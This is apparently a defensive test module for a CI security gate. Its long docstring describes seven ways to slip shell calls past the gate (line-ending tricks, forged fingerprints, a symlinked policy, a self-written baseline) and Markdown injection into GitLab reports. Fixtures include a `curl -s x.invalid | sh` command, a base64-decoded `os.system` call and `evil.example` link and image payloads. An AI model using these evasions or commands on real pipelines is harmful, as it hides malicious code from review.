r"""A thirty-fourth hostile review of `gate check`: diff mode (gate.scan.diff `_earlier`,
gate.git.changes), baselines and waivers matched by fingerprint (gate.policy.baseline,
gate.policy.model `WaiverRule.covers`, gate.scanners.bandit `_issue`), the policy read
from a trusted ref (gate.policy.trusted), shards and `gate merge`, the findings cache and
what CI reads from the gate's output.

Each attack is a confirmed problem: the test says what the gate must do, and a baseline
beside it shows the same bundle without the trick blocks (bandit's B605 on the call the
trick hides; for 4, GATE-IAC-019 at high; for 7, the Markdown report escaping the same
text). Attacks 1 to 6 exited 0 with the hostile harness's policy (checkov off): checkov
reads neither git, baselines nor waivers, and judges no Python. What lets each through:

1. Diff mode counts lines as git does, the finding as Python does. `_touched_by_change`
   (gate.scan.diff) asks whether `git diff -U0` touched a line within the finding's
   `start_line`..`end_line` (gate.git.changes `Changes.lines_changed`); git ends a line
   at `\n` only, Python's tokenizer (bandit's line numbers, and the interpreter that runs
   the handler on Lambda) at a lone `\r` too. On main, src/app.py has a legacy
   `os.system(cmd)` in an operator helper (B605, preexisting). The change rewrites the
   handler's one line as `cmd = '...'\r    os.system(cmd)\r    return ...`: git sees
   one changed line (5), Python three, the new call on line 6. Its fingerprint (rule,
   path, the statement's text) is the legacy call's, which the merge base had, and line
   6 is untouched to git: `preexisting`, exit 0. Written with `\n`, the same change
   blocks. A `# coding: utf-7` file's `+AAo-` is another line break Python sees and git
   does not (checked with Python, not driven through the gate).
2. A bandit finding's anchor is read from the wrong line. `_issue`
   (gate.scanners.bandit) takes the flagged statement's text from
   `source.decode().splitlines()`, which also breaks lines at `\x0c`, `\x0b`, `\x1c` to
   `\x1e`, `\x85`, `\u2028` and `\u2029`; bandit numbers lines as Python does (`\n`, `\r`).
   One form feed in a docstring shifts every later anchor by a line, so a statement's
   anchor is the text of the line above it, which the author writes: a docstring line
   `os.system(cmd)` above the docstring's last line, which ends it and calls
   `os.system(base64.b64decode(JOB).decode())`. A baseline
   that recorded the legacy `os.system(cmd)` (removed by the same change) then takes the
   new call for it (`baselined`, exit 0); without the form feed it blocks. The same
   forged anchor moves any bandit finding onto any recorded or waived fingerprint of its
   file (with `\u2028` alike, run; a `utf-7` file's `+AAo-` shifts it the other way,
   read only).
3. A waiver by fingerprint waives every finding of that fingerprint.
   `WaiverRule.covers` (gate.policy.model) compares `finding.fingerprint` and counts
   nothing, while a baseline matches each recorded finding once ("a second copy of the
   same problem is new"). A waiver with a reason for the operator helper's
   `os.system(cmd)` (`fingerprint:` of that one finding) also waives a copy of the
   statement the change adds to the handler, `cmd = '...'` then `os.system(cmd)`: both
   `waived`, exit 0. Written `os.system(job)`, it blocks. With 2, any statement can be
   given that fingerprint.
4. Diff mode never compares severities. `_earlier` (gate.scan.diff) makes a finding
   preexisting when the merge base's scan has its fingerprint and the change touched
   none of its lines or its resource, and the fingerprint leaves the severity out
   (gate.model `Finding.fingerprint`); `apply_baseline` does refuse a finding more severe
   than the one recorded. GATE-IAC-019's anchor is `Name#public-policy:Sid`, its severity
   medium when the statement only reads and high when it writes
   (gate.rules.iac.resource_policies). On main, a bucket policy lets anyone
   `!Ref PublicActions` (Default `s3:GetObject`: medium, allowed); the change adds a
   samconfig.toml passing `PublicActions=s3:PutObject` (`sam deploy` uses it): anyone may
   write to the bucket, GATE-IAC-019 is high, and `preexisting`, exit 0. The same change
   made in the template blocks. A value from any other file (a `${file()}` include, an
   `AWS::Include` snippet, tfvars) would be the same (read, not run).
5. `--policy-ref` reads the path the change chooses. `policy_at_ref`
   (gate.policy.trusted) resolves the work tree's policy path (`local.resolve()`) before
   asking git for it at the ref, so a change that replaces gate.yml with a symbolic link
   to another file main has (an example or a development environment's policy) makes the
   gate read that file at the ref, as trusted, with no `policy-changed` warning (the link
   target, compared with itself, did not change). Main's gate.yml (`fail_on: low`) blocks
   the change's B605 (low); the example (`fail_on` high by default) passes it. A link to
   a file the change adds, which the ref lacks, would give the built-in default policy
   with only a `policy-changed` warning, main's `policy_change: fail` no longer read
   (read, not run).
6. A baseline in the checkout is trusted silently. `gate check --baseline FILE`
   (gate.cli.check) reads FILE wherever it is; the README's own workflow commits
   gate-baseline.json to the repository and passes it, and a change may rewrite it: a
   pull request that runs `gate baseline create` on its own code and commits the result
   gets every new finding `baselined` (exit 0) with no warning, where a policy file in
   the bundle is warned `policy-in-bundle` and can be read from a trusted ref.
7. GitLab's security report carries the bundle's Markdown. `_vulnerability`
   (gate.reports.gitlab) writes `finding.message` into `description` as it is (only
   `printable`), and GitLab renders a vulnerability's description as Markdown in the
   vulnerability report and the merge request's security widget. A Serverless function
   named `[Approved by security, see SEC-1](https://evil.example/approved)` (GATE-IAC-015's
   message starts with it) is a link there, and an event key `` `<img src=...>` `` closes
   the code span GATE-SLS-001's message quotes it in and opens an image. The README:
   text from the bundle cannot "inject Markdown, HTML or workflow commands"; the Markdown
   report escapes both (`markdown_text`).

Suggested fixes, by class. 1: compare line numbers in one numbering: read git's spans
against the text as git splits it (only `\n`) and map them to Python's lines (or refuse
a Python or IaC file holding a lone `\r`, as Lambda's interpreter reads it otherwise than
git); 2: take the anchor from the same numbering bandit used (`source.split(b"\n")` after
Python's own newline translation, or bandit's code snippet), or from the AST node
(`ast.get_source_segment`) rather than from lines; 3: a fingerprint waiver, like a
baseline entry, covers as many findings as had that fingerprint when it was written
(once, or `count:`), and a second one is new; 4: a finding is preexisting only at a
severity no higher than the merge base's (keep the severity in `before`, as the baseline
keeps it); 5: name the policy file at the ref by the path given, never resolved through
the work tree (refuse a policy path that is a link, or whose resolved path differs), and
warn `policy-changed` whenever the work tree's file is not a regular file; 6: warn
`baseline-in-bundle` for a baseline inside a scanned bundle, and read it from the trusted
ref with `--policy-ref` (or a `--baseline-ref`), as the policy is; 7: pass bundle text
in `description` through `markdown_text` (or put it in a code block GitLab cannot close:
a fence longer than any run of backticks in it).

Also tried, and the gate held: diff mode with src/app.py a symbolic link retargeted to a
file in an ignored folder (`node_modules/`), whose diff is one line (the merge base's
`git archive` is read without links, so the finding there is new: blocks); workflow
commands from Serverless function names (`::add-mask::api`, `##[stop-commands]tok`) and
file names (`##[add-mask]FAIL.py`, `::set-output name=decision::pass.py`) through
`--shard 1/2`, `2/2` and `gate merge` in every format, `gate ls` and `gate baseline create
--output /dev/stdout` (escaped; the `github` format's lines are the gate's own commands);
`--policy-ref` with gate.yml a dangling link (refused as a dangling link of the bundle);
an `eval(event[...])` hidden in a `# coding: utf-7` handler's comment (`+AAo-`): the
serverless rules decode by the cookie (gate.rules.context `decode_python`), GATE-SLS-002
blocks; the same names and event keys in the Markdown report (escaped).
Read, and judged sound without a case: `gate merge` re-derives the decision from the
joined findings and any shard's FAIL or error, and `keep_own` and `shard_view` use one
ownership rule; the findings cache keys each part by the content of every staged file
of it, the scanner's functions and options (no runtime marker evaluation feeds the
audit, so the IaC is not an unkeyed input of its entries); `verified` rehashes files
the diff calls unchanged; the merge base's `.gitattributes` (`export-ignore`) can only
drop findings from the merge base, making more findings new; `text`/`eol` conversion
only folds CRLF, which Python reads the same; SARIF's `help.markdown` holds the
catalogue's text and escaped titles only.

Not covered: the lone-`\r` numbering against IaC extents (`resource_extents` counts YAML
line breaks as PyYAML does, `\r`, `\x85` and `\u2028` included, and Terraform's with
`str.splitlines`, against git's `\n`: a change in one resource can be charged to its
neighbour; it only matters with 4's same-fingerprint findings, not driven to a case);
`.gitattributes` `ident` and `working-tree-encoding` (git's view of a file changed by its
clean filter; both need the merge base's text to cooperate); GitHub code scanning's
alert matching by SARIF's `partialFingerprints` (`gateFingerprint/v1`, the fingerprint: 2
would carry a dismissed alert's state to a new result; not tried against GitHub); a
`leave_out` entry granted once its build step was read (`BuildMethod: makefile`) stays
granted whatever the change does to that step, since nothing pins it to the step's
content; TeamCity `##teamcity[` service messages (not an integration
the gate ships).

Fixed, each by its class. 1, diff mode (gate.scan.diff `_numbered_as_git`) takes any
change to a file whose lines the scanners number otherwise than git (a lone `\r`,
`\x85`, `\u2028`, `\u2029`, not UTF-8, a Python `# coding:` other than UTF-8) as a change
to all of it. 2, bandit's anchor is read from the lines Python numbers
(gate.pysource `python_lines`: decoded by the file's own declaration, broken at `\n`,
`\r\n` and `\r` only). 3, a waiver by fingerprint waives one finding; another with the
fingerprint is judged as new and warned `waiver-repeated` (gate.policy.waivers). 4, a
finding more severe than the merge base's is new (gate.scan.diff `Seen`); and
GATE-IAC-019 reads an action given by a parameter as each value the bundle gives it,
so the case's main is medium, as the review took it to be (it was high: the parameter's
name was judged as an action). 5, `--policy-ref` reads the path as given, no link in it
followed (gate.policy.trusted `file_at_ref`). 6, a baseline inside a bundle is warned
`baseline-in-bundle`, and with `--policy-ref` it is read from the ref, warned
`baseline-changed` when the work tree's differs (failing under `policy_change: fail`).
7, the GitLab report's description shows the bundle's text literally (`markdown_text`).
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import git

from tests.hostile.conftest import (
    CHEAP_POLICY,
    Layout,
    Sandbox,
    blocked_or_refused,
    commit,
    committed_repository,
    each_blocks,
    on_rule,
    with_file,
)
from tests.hostile.test_review25 import HARMLESS
from tests.hostile.test_review26 import PLANTED, SAM_ZIP
from tests.test_provenance import AUTHOR

LEGACY = (
    "import os\n\n\ndef handler(event, context):\n    return {'ok': True}\n\n\n"
    "def rotate(cmd):\n    os.system(cmd)\n"
)
"""src/app.py on main: an operator helper's shell call (B605), a known, accepted finding."""


def in_handler(statements: str, newline: str = "\n") -> str:
    """LEGACY with `statements` (lines) run by the handler, joined by `newline`."""
    lines = [*statements.splitlines(), "return {'ok': True}"]
    body = newline.join(f"    {line}" for line in lines)
    return LEGACY.replace("    return {'ok': True}", body)


COPIED = "cmd = 'curl -s x.invalid | sh'\nos.system(cmd)"
"""The legacy statement, word for word, run by the handler with a command of the change's."""
REWORDED = "job = 'curl -s x.invalid | sh'\nos.system(job)"


def repository(sandbox: Sandbox) -> git.Repo:
    """main holds the bundle as written so far; the work tree is on branch `change`."""
    repo = committed_repository(sandbox, "main")
    repo.git.checkout("-b", "change")
    return repo


def legacy(sandbox: Sandbox) -> None:
    sandbox.write("template.yaml", SAM_ZIP)
    sandbox.write("src/app.py", LEGACY)


# --- 1. diff mode: a lone carriage return ---------------------------------------------------------


def diffed(sandbox: Sandbox, newline: str) -> int:
    """Exit code of diff mode for the change that copies the legacy call into the handler,
    its lines joined by `newline`."""
    legacy(sandbox)
    repo = repository(sandbox)
    sandbox.write("src/app.py", in_handler(COPIED, newline).encode())
    commit(repo, "run the rotation from the handler")
    return sandbox.run("--diff-base", "main").code


def test_a_copied_call_on_changed_lines_blocks(sandbox: Sandbox) -> None:
    """The baseline: the same change, its lines ended by `\\n`."""
    assert diffed(sandbox, "\n") == 1


def test_a_call_on_a_line_git_does_not_see_is_new(sandbox: Sandbox) -> None:
    """Python sees the call on line 6, git one changed line 5: `preexisting`."""
    blocked_or_refused(diffed(sandbox, "\r"))


# --- 2. and 3. fingerprints: a forged anchor, and a waiver of a copy ------------------------------

FORGED = (
    "import base64\nimport os\n\nJOB = 'Y3VybCB4Lmludmw='\n\n\ndef handler(event, context):\n"
    '    """The nightly job.{separator}\n    os.system(cmd)\n'
    '    """; os.system(base64.b64decode(JOB).decode())\n'
    "    return {{'ok': True}}\n"
)
"""The legacy helper gone, the handler runs a decoded command; a separator in the docstring
(for Python no line break) makes the line above the call its anchor."""


def against_baseline(sandbox: Sandbox, separator: str) -> int:
    legacy(sandbox)
    recorded = sandbox.base / "baseline.json"
    sandbox.gate(
        "baseline", "create", str(sandbox.bundle), "--output", str(recorded),
        "--policy", str(sandbox.policy()),
    )  # fmt: skip
    sandbox.write("src/app.py", FORGED.format(separator=separator))
    return sandbox.run("--baseline", str(recorded)).code


def test_a_new_call_is_not_the_recorded_one(sandbox: Sandbox) -> None:
    """The baseline: without the form feed the new call's anchor is its own: it blocks."""
    assert against_baseline(sandbox, "") == 1


def test_an_anchor_is_the_flagged_statement(sandbox: Sandbox) -> None:
    """A form feed shifts the anchor onto the docstring line `os.system(cmd)`: baselined."""
    blocked_or_refused(against_baseline(sandbox, "\x0c"))


def waived(sandbox: Sandbox, statements: str) -> int:
    """Exit code with a waiver of the helper's B605 by its fingerprint, when the handler
    runs `statements`."""
    legacy(sandbox)
    sandbox.write("src/app.py", in_handler(statements))
    found = json.loads(sandbox.run("--format", "json").stdout)["findings"]
    helper = max((f for f in found if f["rule_id"] == "B605"), key=lambda f: f["start_line"])
    policy = CHEAP_POLICY + (
        f"waivers:\n  - {{rule: B605, fingerprint: {helper['fingerprint']}, "
        "reason: 'rotate() is run by operators only', expires: 2027-06-01}\n"
    )
    return sandbox.run(policy=policy).code


def test_a_fingerprint_waiver_leaves_another_call_blocking(sandbox: Sandbox) -> None:
    """The baseline: the handler's call written otherwise is not waived: it blocks."""
    assert waived(sandbox, REWORDED) == 1


def test_a_fingerprint_waiver_covers_the_one_finding(sandbox: Sandbox) -> None:
    """A copy of the waived statement in the handler is waived with it."""
    blocked_or_refused(waived(sandbox, COPIED))


# --- 4. diff mode: the same fingerprint, more severe ----------------------------------------------

PUBLIC_SITE = """\
AWSTemplateFormatVersion: '2010-09-09'
Transform: AWS::Serverless-2016-10-31
Parameters:
  PublicActions:
    Type: String
    Default: s3:GetObject
Resources:
  Fn:
    Type: AWS::Serverless::Function
    Properties:
      CodeUri: src/
      Handler: app.handler
      Runtime: python3.12
      Tracing: Active
  Site:
    Type: AWS::S3::BucketPolicy
    Properties:
      Bucket: site
      PolicyDocument:
        Statement:
          - Sid: Public
            Effect: Allow
            Principal: '*'
            Action: !Ref PublicActions
            Resource: 'arn:aws:s3:::site/*'
"""
"""Anyone may read the site's objects: GATE-IAC-019 at medium, below the threshold."""
WRITES = (
    'version = 0.1\n\n[default.deploy.parameters]\nstack_name = "site"\n'
    'parameter_overrides = "PublicActions=s3:PutObject"\n'
)


def opened(sandbox: Sandbox, in_template: bool) -> int:
    """Diff mode's exit code when the change lets anyone write to the bucket."""
    sandbox.write("template.yaml", PUBLIC_SITE)
    sandbox.write("src/app.py", HARMLESS)
    repo = repository(sandbox)
    if in_template:
        sandbox.write("template.yaml", PUBLIC_SITE.replace("!Ref PublicActions", "s3:PutObject"))
    else:
        sandbox.write("samconfig.toml", WRITES)
    commit(repo, "let the uploader write")
    return sandbox.run("--diff-base", "main").code


def test_a_public_write_made_in_the_template_blocks(sandbox: Sandbox) -> None:
    """The baseline: the same grant written in the resource: touched, new, high."""
    assert opened(sandbox, in_template=True) == 1


def test_a_finding_more_severe_than_the_merge_bases_is_new(sandbox: Sandbox) -> None:
    """samconfig.toml makes the medium finding high; its fingerprint is main's."""
    blocked_or_refused(opened(sandbox, in_template=False))


# --- 5. --policy-ref through a symbolic link ------------------------------------------------------


UPTIME = "import os\n\n\n" + HARMLESS.replace("    return", "    os.system('uptime')\n    return")
"""B605 at low: a literal command."""


def with_linked_policy(sandbox: Sandbox, link: bool) -> int:
    """main's gate.yml blocks low findings; the change adds one (B605 on a literal command)
    and, with `link`, makes gate.yml a link to an example policy main also has."""
    legacy(sandbox)
    sandbox.write("src/app.py", HARMLESS)
    sandbox.write("gate.yml", CHEAP_POLICY + "fail_on: low\n")
    sandbox.write("docs/example-gate.yml", CHEAP_POLICY)
    # The repository holds the working directory too: --policy-ref asks git from there.
    repo = git.Repo.init(sandbox.base, initial_branch="main")

    def committed(message: str) -> None:
        repo.git.add("bundle")
        repo.index.commit(message, author=AUTHOR, committer=AUTHOR)

    committed("main")
    repo.git.checkout("-b", "change")
    sandbox.write("src/app.py", UPTIME)
    if link:
        (sandbox.bundle / "gate.yml").unlink()
        os.symlink("docs/example-gate.yml", sandbox.bundle / "gate.yml")
    committed("uptime")
    policy = str(sandbox.bundle / "gate.yml")
    return sandbox.run("--policy", policy, "--policy-ref", "main", policy=None).code


def test_the_policy_at_the_ref_blocks(sandbox: Sandbox) -> None:
    """The baseline: gate.yml as main has it judges the change: blocks."""
    assert with_linked_policy(sandbox, link=False) == 1


def test_a_linked_policy_does_not_choose_the_file_read_at_the_ref(sandbox: Sandbox) -> None:
    """gate.yml a link to docs/example-gate.yml: that file is read at main, no warning."""
    blocked_or_refused(with_linked_policy(sandbox, link=True))


# --- 7. Markdown in GitLab's security report ------------------------------------------------------

LINKED = """\
service: orders
frameworkVersion: '3'
provider:
  name: aws
  runtime: python3.12
functions:
  "[Approved by security, see SEC-1](https://evil.example/approved)":
    handler: app.handler
"""
"""A function named as a Markdown link; its handler's event key closes the code span the
message quotes it in, then opens an image."""
BREAKS_OUT = (
    "import os\n\n\ndef handler(event, context):\n"
    "    os.system(event['`<img src=https://evil.example/p.png>`'])\n"
)


def linked(sandbox: Sandbox, fmt: str) -> str:
    sandbox.write("serverless.yml", LINKED)
    sandbox.write("app.py", BREAKS_OUT)
    return sandbox.run("--format", fmt).stdout


def test_the_markdown_report_escapes_names_and_messages(sandbox: Sandbox) -> None:
    """The baseline: the Markdown report (the job summary) shows the same text inert."""
    shown = linked(sandbox, "markdown")
    assert "evil.example" in shown and "](" not in shown and "<img" not in shown


def test_the_gitlab_report_holds_no_markdown_from_the_bundle(sandbox: Sandbox) -> None:
    """GitLab renders `description` as Markdown in the vulnerability report and the merge
    request's security widget: a link and an image of the bundle's author."""
    report = json.loads(linked(sandbox, "gitlab-sast"))
    described = [v["description"] for v in report["vulnerabilities"]]
    assert not any("](" in text or "<img" in text for text in described), described


# --- 6. a baseline the change writes --------------------------------------------------------------


def planted(sandbox: Sandbox) -> None:
    """A function whose sitecustomize.py runs a shell at every start (B605)."""
    legacy(sandbox)
    sandbox.write("src/app.py", HARMLESS)
    sandbox.write("src/sitecustomize.py", PLANTED)


def test_a_baseline_the_bundle_holds_is_not_trusted_silently(sandbox: Sandbox) -> None:
    """The change records its own findings in the gate-baseline.json CI passes."""
    planted(sandbox)
    recorded = sandbox.bundle / "gate-baseline.json"
    policy = str(sandbox.policy())
    sandbox.gate(
        "baseline", "create", str(sandbox.bundle), "--output", str(recorded), "--policy", policy
    )
    run = sandbox.run("--baseline", str(recorded), "--format", "json")
    warned = [w for w in json.loads(run.stdout)["warnings"] if "baseline" in w["code"]]
    assert run.code != 0 or warned, run.stdout[-2000:]


def written(code: str) -> Layout:
    """The legacy bundle with src/app.py as the change writes it."""
    return with_file(legacy, "src/app.py", code)


def test_the_code_each_trick_hides_blocks(tmp_path: Path) -> None:
    """The baselines of 2, 3 and 6, in one run: the code each change deploys, with no
    baseline or waiver, blocks."""
    layouts = {
        "forged-anchor": written(FORGED.format(separator="\x0c")),
        "copied-call": written(in_handler(COPIED)),
        "planted": planted,
    }
    each_blocks(tmp_path, on_rule("B605", layouts))
